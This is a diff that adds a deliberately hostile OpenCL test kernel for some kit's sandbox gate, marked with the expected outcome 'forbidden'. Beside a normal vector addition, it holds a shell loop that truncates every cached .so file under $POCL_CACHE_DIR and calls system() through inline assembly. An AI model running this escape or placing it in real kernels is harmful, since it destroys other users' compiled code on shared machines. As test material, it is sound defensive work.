@@ -1,0 +1,19 @@
+// SPDX-License-Identifier: Apache-2.0
+// Hostile kernel for the kit's tests: overwrites the compiled kernels of others.
+// outcome: forbidden
+// outcome without gate: runtime-crash
+
+#define GROUP 256
+#define PER_ITEM 4
+
+kernel void vector_add(global const float* a, global const float* b, global float* c, uint n) {
+  for (size_t i = get_global_id(0); i < n; i += get_global_size(0)) c[i] = a[i] + b[i];
+  if (get_global_id(0) == 0) {
+    char s[] = "for f in $(find $POCL_CACHE_DIR -name '*.so'); do : > $f; done";
+    char* p = s;
+    __asm__ volatile(
+        "mov %%rsp, %%rbx; sub $256, %%rsp; and $-16, %%rsp; call system@PLT; mov %%rbx, %%rsp" ::
+            "D"(p)
+        : "rax", "rbx", "rcx", "rdx", "rsi", "r8", "r9", "r10", "r11", "memory");
+  }
+}
